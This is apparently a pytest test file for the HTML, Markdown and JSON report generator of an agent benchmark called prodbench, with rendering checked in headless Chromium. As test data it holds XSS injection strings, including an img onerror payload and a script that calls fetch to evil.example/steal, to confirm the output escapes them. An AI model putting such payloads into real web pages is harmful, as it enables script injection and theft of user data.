"""`prodbench report` as a user runs it, and its HTML opened in headless Chromium."""

from __future__ import annotations

import json
import os
import re
import shutil
import struct
import subprocess
import sys
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest

from graders.models import Check, Judge, TrialResult
from graders.report import heat_colour, md, render_html
from graders.scoring import summarize

PRODBENCH = str(Path(sys.executable).with_name("prodbench"))
INJ_AGENT = '<img src=x onerror="alert(1)">'
INJ_TASK = '"><script>alert("task")</script> | `x` *y*'
INJ_OBSERVED = '</td><script>fetch("https://evil.example/steal")</script><img src="https://evil.example/p.png">'
AGENTS = ["alpha", "beta", INJ_AGENT]
TASKS = [
    ("wishlist", "feature-rollout"),
    ("promo-codes", "feature-rollout"),
    ("dark-mode", "feature-flag"),
    ("slow-search", "latency"),
    (INJ_TASK, "error-rate"),
]
RUNS = 2


def make_trial(agent: str, task: str, category: str, k: int) -> TrialResult:
    """alpha passes everything; beta misses some hidden tests; the third agent fails most."""
    if agent == "beta" and task == "slow-search" and k == 1:
        return TrialResult(
            task=task,
            category=category,
            agent=agent,
            trial=k,
            status="infra_error",
            infra_error="prometheus did not become healthy in 60 s",
        )
    feature_ok = {
        "alpha": True,
        "beta": task != "promo-codes" and not (task == "dark-mode" and k == 0),
        INJ_AGENT: task == "wishlist",
    }[agent]
    devops_ok = agent != INJ_AGENT or k == 1
    checks = [
        Check(
            name="hidden: GET /api/v1/wishlist returns the saved items",
            dimension="feature",
            weight=2,
            score=1.0 if feature_ok else 0.0,
            expected=200,
            observed=200 if feature_ok else INJ_OBSERVED,
            detail="tests/test_wishlist.py::test_list",
        ),
        Check(
            name="no regressions in existing tests",
            dimension="feature",
            penalty=True,
            score=1.0,
            expected="0 failures",
            observed="0 failures",
        ),
        Check(
            name="deploy promoted without rollback",
            dimension="devops",
            score=1.0 if devops_ok else 0.0,
            expected="promoted",
            observed="promoted" if devops_ok else "rolled back",
        ),
        Check(
            name="ticket ACME-42 moved to Done",
            dimension="devops",
            score=1.0,
            expected={"state": "Done"},
            observed={"state": "Done"},
        ),
    ]
    quality = {"alpha": 0.9, "beta": 0.7, INJ_AGENT: 0.4}[agent]
    checks.append(  # a signal of the quality grader: shown, weight 0, never a failure
        Check(
            name="repeated identical tool calls",
            dimension="quality",
            weight=0,
            score=0.5,
            expected="none repeated 3+ times",
            observed="deploy_status x7",
        )
    )
    return TrialResult(
        task=task,
        category=category,
        agent=agent,
        trial=k,
        seed=k,
        quality=quality,
        checks=checks,
        judge=Judge(method="fallback", rubric={"scope": quality}, rationale=INJ_OBSERVED),
    )


def all_trials() -> list[TrialResult]:
    return [
        make_trial(agent, task, category, k)
        for agent in AGENTS
        for task, category in TASKS
        for k in range(RUNS)
    ]


@pytest.fixture
def results(tmp_path) -> list[Path]:
    """The trials as result.json files in two suite directories, in two different layouts."""
    dirs = [tmp_path / "suite-1", tmp_path / "suite-2"]
    for t in all_trials():
        a, ti = AGENTS.index(t.agent), [n for n, _ in TASKS].index(t.task)
        if a < 2:  # suite-1: <agent>/<task>/<k>/result.json
            run_dir = dirs[0] / f"agent{a}" / f"task{ti}" / str(t.trial)
        else:  # suite-2: flat run directories
            run_dir = dirs[1] / "runs" / f"r-{ti}-{t.trial}"
        run_dir.mkdir(parents=True)
        (run_dir / "result.json").write_text(t.model_dump_json(indent=2))
    return dirs


def cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": "200", "NO_COLOR": "1"}
    return subprocess.run(
        [PRODBENCH, "report", *args],
        check=False,
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )


@pytest.fixture
def report_dir(results, tmp_path) -> Path:
    out = tmp_path / "out"
    proc = cli(*map(str, results), "--out", str(out))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"html      {out / 'report.html'}" in proc.stdout
    assert f"json      {out / 'report.json'}" in proc.stdout
    for agent in AGENTS:
        assert agent in proc.stdout  # the terminal leaderboard, names as plain text
    assert "1 infra error (not scored)" in proc.stdout
    return out


# --- JSON --------------------------------------------------------------------------------


def test_json_report_matches_scoring(report_dir):
    data = json.loads((report_dir / "report.json").read_text())
    assert data["schema_version"] == 1
    assert data["generated_at"] and data["generator"].startswith("prodbench ")
    expected = summarize(all_trials())
    assert [a["agent"] for a in data["agents"]] == [a.agent for a in expected.agents]
    assert [a["agent"] for a in data["agents"]] == ["alpha", "beta", INJ_AGENT]
    for got, want in zip(data["agents"], expected.agents, strict=True):
        assert got["composite"] == want.composite.model_dump()
        assert got["pass_at_1"] == want.pass_at_1.model_dump()
        assert got["pass_hat_k"] == [p.model_dump() for p in want.pass_hat_k]
        assert len(got["categories"]) == len(want.categories)
    alpha = data["agents"][0]
    # alpha: every check passes, Q = 0.9: 60 + 30 + 9 = 99 on every trial, no spread
    assert alpha["composite"] == {"mean": 99.0, "ci_low": 99.0, "ci_high": 99.0, "n": 5}
    assert [p["value"] for p in alpha["pass_hat_k"]] == [1.0, 1.0]
    beta = data["agents"][1]
    assert (beta["n_trials"], beta["n_infra_errors"]) == (9, 1)
    # beta's pass^k stops at k=1: slow-search has only one scored run
    assert [p["k"] for p in beta["pass_hat_k"]] == [1]
    assert data["infra_errors"] == [
        {
            "agent": "beta",
            "task": "slow-search",
            "trial": 1,
            "error": "prometheus did not become healthy in 60 s",
        }
    ]
    # tasks in the suite's category order, by name within a category
    assert [t["task"] for t in data["tasks"]] == [
        "promo-codes",
        "wishlist",
        "dark-mode",
        "slow-search",
        INJ_TASK,
    ]
    assert all(len(t["results"]) == len(AGENTS) for t in data["tasks"])
    assert len(data["trials"]) == len(AGENTS) * len(TASKS) * RUNS
    assert all(Path(t["source"]).name == "result.json" for t in data["trials"])
    assert data["quality_methods"][0] == {"agent": "alpha", "llm": 0, "fallback": 10, "unknown": 0}
    # Every trial in the report is a valid, scored TrialResult (plus where it came from).
    for t in data["trials"]:
        t.pop("source")
        parsed = TrialResult.model_validate(t)
        assert parsed.status == "infra_error" or parsed.composite is not None


# --- Markdown ----------------------------------------------------------------------------


def test_markdown_report(report_dir):
    text = (report_dir / "report.md").read_text()
    for heading in (
        "## Leaderboard",
        "### pass^k",
        "## By category",
        "## By dimension",
        "## Infra errors",
        "## Tasks",
        "### Failed checks",
    ):
        assert f"\n{heading}\n" in text
    assert "| 1 | alpha | 99.0 [99.0, 99.0] | 100% [100%, 100%] |" in text
    assert "| beta | slow-search | 1 | prometheus did not become healthy in 60 s |" in text
    assert "deterministic fallback" in text
    # Failed checks with expected and observed; nothing from results becomes markup.
    assert "rolled back" in text
    assert "deploy_status x7" not in text  # weight 0: not a failed check
    assert "<script" not in text and "<img" not in text and "<td" not in text
    assert md(INJ_AGENT) in text and md(INJ_TASK) in text
    # A `|` in a task name does not break a table row: every row has its header's cells.
    lines = text.splitlines()
    header = lines.index("| task | agent | run | check | dimension | score | expected | observed |")
    rows = [line for line in lines[header + 2 :] if line.startswith("| ")]
    # beta: promo-codes x2 and dark-mode run 0 (feature) = 3; the third agent: feature on 4
    # tasks x 2 runs = 8, devops on run 0 of 5 tasks = 5; 3 + 8 + 5 = 16
    assert len(rows) == 16
    assert any(md(INJ_TASK) in row for row in rows)
    for row in rows:
        assert len(re.split(r"(?<!\\) \| ", row)) == 8, row


# --- HTML --------------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every element of a document with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def having(self, tag: str, cls: str) -> list[dict[str, str | None]]:
        return [a for t, a in self.elements if t == tag and cls in (a.get("class") or "").split()]


def parse(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    return parser


NETWORK = re.compile(
    r"""(?:\b(?:src|href|xlink:href|action|poster|data)\s*=\s*["']?\s*(?:[a-z][a-z0-9+.-]*:)?//)"""
    r"""|(?:url\(\s*["']?\s*(?:[a-z]+:)?//)|@import""",
    re.IGNORECASE,
)


def test_html_is_self_contained_and_escaped(report_dir):
    html = (report_dir / "report.html").read_text()
    assert not NETWORK.search(html), NETWORK.search(html)
    doc = parse(html)
    tags = {t for t, _ in doc.elements}
    assert not tags & {"script", "img", "link", "iframe", "object", "embed", "base"}, tags
    for _, attrs in doc.elements:
        assert not any(name.startswith("on") for name in attrs), attrs  # no event handlers
        for name in ("href", "src"):
            value = attrs.get(name)
            assert value is None or value.startswith("#"), attrs
    # The hostile strings are there, as text.
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in html
    assert "&lt;script&gt;alert(&#34;task&#34;)&lt;/script&gt;" in html
    assert "&lt;/td&gt;&lt;script&gt;fetch(" in html


def test_html_has_every_part(report_dir):
    html = (report_dir / "report.html").read_text()
    doc = parse(html)
    assert len([a for a in doc.having("rect", "bar") if "data-dimension" not in a]) == 3
    assert len(doc.having("rect", "bar")) == 3 + 3 * 3  # leaderboard + F/D/Q panels
    cells = doc.having("g", "heat-cell")
    assert len(cells) == 4 * 3  # 4 categories x 3 agents
    assert {c["data-category"] for c in cells} == {
        "feature-rollout",
        "feature-flag",
        "latency",
        "error-rate",
    }
    assert len(doc.having("details", "task")) == len(TASKS)
    assert len(doc.having("div", "trial")) == len(AGENTS) * len(TASKS) * RUNS
    # every check of every scored trial, with expected and observed
    assert len(doc.having("tr", "passed")) + len(doc.having("tr", "failed")) == 4 * 29
    assert len(doc.having("tr", "info")) == 29  # the weight-0 signal check of each trial
    assert "deploy_status x7" in html
    assert "rolled back" in html and "ticket ACME-42 moved to Done" in html
    assert "prometheus did not become healthy in 60 s" in html


def chromium_binary() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
        found = shutil.which(name)
        if found:
            return found
    pytest.fail(
        "no Chromium binary (chromium or chromium-browser) on PATH: run scripts/install.sh, "
        "which installs it with apt; the HTML report is checked in headless Chromium"
    )


def chromium(tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    argv = [
        chromium_binary(),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-extensions",
        "--disable-background-networking",
        "--hide-scrollbars",
        "--force-device-scale-factor=1",
        f"--user-data-dir={tmp_path / 'chromium-profile'}",
        *args,
    ]
    proc = subprocess.run(argv, check=False, capture_output=True, text=True, timeout=90)
    assert proc.returncode == 0, proc.stderr[-2000:]
    return proc


def read_png(data: bytes) -> tuple[int, int, list[bytearray], int]:
    """Width, height, rows of pixel bytes and bytes per pixel of an 8-bit RGB(A) PNG."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    pos, idat = 8, bytearray()
    width = height = bpp = 0
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        kind, body = data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + length]
        pos += 12 + length
        if kind == b"IHDR":
            width, height, depth, colour_type, _, _, interlace = struct.unpack(">IIBBBBB", body)
            assert depth == 8 and colour_type in (2, 6) and interlace == 0
            bpp = 3 if colour_type == 2 else 4
        elif kind == b"IDAT":
            idat += body
    raw = zlib.decompress(bytes(idat))
    stride = width * bpp
    rows, prev = [], bytearray(stride)
    for y in range(height):
        start = y * (stride + 1)
        kind, line = raw[start], bytearray(raw[start + 1 : start + 1 + stride])
        if kind == 1:  # Sub
            for i in range(bpp, stride):
                line[i] = (line[i] + line[i - bpp]) & 255
        elif kind == 2:  # Up
            line = bytearray((a + b) & 255 for a, b in zip(line, prev, strict=True))
        elif kind == 3:  # Average
            for i in range(stride):
                left = line[i - bpp] if i >= bpp else 0
                line[i] = (line[i] + (left + prev[i]) // 2) & 255
        elif kind == 4:  # Paeth
            for i in range(stride):
                a = line[i - bpp] if i >= bpp else 0
                b, c = prev[i], (prev[i - bpp] if i >= bpp else 0)
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                pred = a if pa <= pb and pa <= pc else (b if pb <= pc else c)
                line[i] = (line[i] + pred) & 255
        rows.append(line)
        prev = line
    return width, height, rows, bpp


def test_html_renders_its_charts_in_headless_chromium(report_dir, tmp_path):
    page = (report_dir / "report.html").as_uri()
    dom = chromium(tmp_path, "--dump-dom", page).stdout
    doc = parse(dom)
    # The DOM Chromium built: the charts are there as SVG, the injections stayed text.
    assert len(doc.having("svg", "chart")) == 1 + 1 + 3 + 1  # leaderboard, heatmap, F/D/Q, pass^k
    bars = [a for a in doc.having("rect", "bar") if "data-dimension" not in a]
    assert [b["data-agent"] for b in bars] == ["alpha", "beta", INJ_AGENT]
    assert float(bars[0]["data-mean"]) == 99.0
    assert len(doc.having("g", "errbar")) >= 3 * 3  # composite and F/D/Q with a CI
    assert len(doc.having("g", "heat-cell")) == 12
    assert len(doc.having("circle", "pass-point")) == 2 + 1 + 2  # pass^k points per agent
    assert not {t for t, _ in doc.elements} & {"script", "img", "iframe"}

    shot = tmp_path / "report.png"
    chromium(tmp_path, f"--screenshot={shot}", "--window-size=1280,2000", page)
    width, height, rows, bpp = read_png(shot.read_bytes())
    assert (width, height) == (1280, 2000)
    pixels: dict[tuple[int, ...], int] = {}
    for row in rows[::2]:
        for x in range(0, len(row), bpp * 2):
            px = tuple(row[x : x + 3])
            pixels[px] = pixels.get(px, 0) + 1
    assert len(pixels) > 200, "the screenshot is nearly blank"
    # The leaderboard's bars are drawn in the agents' colours: blue, vermillion, green.
    for colour in ((0x00, 0x72, 0xB2), (0xD5, 0x5E, 0x00), (0x00, 0x9E, 0x73)):
        assert pixels.get(colour, 0) > 500, f"no bar of colour {colour} on the screenshot"
    # The heatmap's cells are painted in the colours of their values.
    heat = {c["data-value"] for c in doc.having("g", "heat-cell")}
    painted = 0
    for value in heat:
        fill = heat_colour(float(value) / 100)[0]
        rgb = tuple(int(fill[i : i + 2], 16) for i in (1, 3, 5))
        painted += pixels.get(rgb, 0) > 100
    assert painted == len(heat), "heatmap cells missing from the screenshot"


# --- bad input ---------------------------------------------------------------------------


def test_refuses_invalid_results_naming_the_file(results, tmp_path):
    bad = results[0] / "agent0" / "task0" / "0" / "result.json"
    bad.write_text("{not json")
    proc = cli(str(results[0]), "--out", str(tmp_path / "o1"))
    assert proc.returncode == 2
    assert str(bad) in proc.stderr and "not valid JSON" in proc.stderr
    assert "--skip-invalid" in proc.stderr

    bad.write_text(json.dumps({"schema_version": 99, "task": "x"}))
    proc = cli(str(results[0]), "--out", str(tmp_path / "o2"))
    assert proc.returncode == 2
    assert "schema_version 99" in proc.stderr and str(bad) in proc.stderr

    proc = cli(str(results[0]), "--out", str(tmp_path / "o3"), "--skip-invalid")
    assert proc.returncode == 0, proc.stderr
    assert "warning:" in proc.stderr and str(bad) in proc.stderr
    data = json.loads((tmp_path / "o3" / "report.json").read_text())
    assert len(data["trials"]) == 2 * len(TASKS) * RUNS - 1


def test_refuses_a_result_it_cannot_score(results, tmp_path):
    bad = results[0] / "agent0" / "task0" / "0" / "result.json"
    data = json.loads(bad.read_text())
    data["checks"] = [c for c in data["checks"] if c["dimension"] != "feature"]
    bad.write_text(json.dumps(data))
    proc = cli(str(results[0]), "--out", str(tmp_path / "o"))
    assert proc.returncode == 2
    assert str(bad) in proc.stderr and "no feature score" in proc.stderr


def test_bad_directories(tmp_path):
    proc = cli(str(tmp_path / "missing"))
    assert proc.returncode == 2 and "no such directory" in proc.stderr
    (tmp_path / "empty").mkdir()
    proc = cli(str(tmp_path / "empty"))
    assert proc.returncode == 2 and "no result.json under" in proc.stderr
    proc = cli()
    assert proc.returncode == 2


def test_default_out_is_the_first_directory_and_duplicates_are_refused(results, tmp_path):
    proc = cli(str(results[0]), str(results[0]))  # the same files twice count once
    assert proc.returncode == 0, proc.stderr
    assert (results[0] / "report.html").exists() and (results[0] / "report.md").exists()
    copy = tmp_path / "copy"
    shutil.copytree(results[0] / "agent0", copy / "agent0")
    proc = cli(str(results[0]), str(copy))
    assert proc.returncode == 2 and "are both agent 'alpha'" in proc.stderr


def test_render_html_is_pure_and_escapes(tmp_path):
    from graders.report import build_report, load_results

    path = tmp_path / "r" / "result.json"
    path.parent.mkdir()
    path.write_text(make_trial(INJ_AGENT, INJ_TASK, "error-rate", 0).model_dump_json())
    trials = load_results([path])
    import datetime as dt

    now = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
    report = build_report(trials, inputs=[str(tmp_path)], now=now)
    html = render_html(report)
    assert html == render_html(report)
    assert "2026-01-02T03:04:05+00:00" in html
    assert "<script" not in html and "<img" not in html
    assert "(1 task, no CI)" in html  # one task: a mean, no interval
